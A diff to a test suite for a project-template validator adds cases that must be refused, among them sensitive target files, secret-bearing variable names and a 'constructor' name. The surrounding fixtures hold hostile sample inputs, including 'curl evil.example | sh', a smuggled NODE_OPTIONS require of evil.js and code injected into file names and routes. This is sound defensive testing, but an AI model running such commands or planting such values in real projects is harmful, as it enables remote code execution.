@@ -52,6 +52,15 @@ describe("what a feature says is checked", () => {
       "/tmp/x.ts",
       "lib/../../x.ts",
       "C:/x.ts",
+      "gulpfile.js",
+      "Gruntfile.js",
+      "vitest.workspace.ts",
+      "jest.setup.ts",
+      "karma.conf.js",
+      "prisma/seed.ts",
+      "server.js",
+      "{base}mdx-components.tsx",
+      "public/sw.js",
       "lib/x.sh",
       "lib/x\u202E.ts",
       '{base}lib/x";evil();".ts',
@@ -60,6 +69,9 @@ describe("what a feature says is checked", () => {
       (one) => Object.assign(one.files[0], { target }),
     ]),
     ["a variable that is an expression", (one) => Object.assign(one.env[0], { name: "(A|B)+" })],
+    ...["AUTH_SECRET", "NEXTAUTH_SECRET", "DATABASE_URL", "NODE_OPTIONS", "NEXT_PUBLIC_KEY", "PATH"].map(
+      (name): [string, (feature: any) => void] => [`the variable ${name}`, (one) => Object.assign(one.env[0], { name })],
+    ),
     ["a variable with a line break", (one) => Object.assign(one.env[0], { name: "A\nB" })],
     ["a comment with a line break", (one) => Object.assign(one.env[0], { comment: "why\nNODE_OPTIONS=--require=./evil.js" })],
     ["a key without measure", (one) => Object.assign(one.env[0], { generate: "base64:999999999999" })],
@@ -69,6 +81,7 @@ describe("what a feature says is checked", () => {
     ["a field that is code", (one) => Object.assign(one.schema.userFields[0], { name: "x }\nmodel Evil {" })],
     ["a step that is a command of the shell", (one) => Object.assign(one.nextSteps, { push: "curl evil.example | sh" })],
     ["a route that is code", (one) => Object.assign(one.routes, { settings: '/x"; evil(); "' })],
+    ["the name constructor", (one) => Object.assign(one, { name: "constructor" })],
     ["the name __proto__", (one) => Object.assign(one, { name: "__proto__" })],
     ["a title with an escape", (one) => Object.assign(one, { title: "\u001B[2J" })],
     ["odd types", (one) => Object.assign(one, { files: { length: 3 }, env: "x" })],
@@ -119,6 +132,8 @@ describe("a feature's files are regular ones of its own folder", () => {
     symlinkSync(outside, join(dir, dirname(template)))
     refusedWith(dir)
   })
+
+  test("two templates for one file", () => refusedWith(featureWith((one) => one.files.push(one.files[0]))))
 
   test("what a template gives is parsed before it is written", () => {
     const dir = featureWith(() => {})
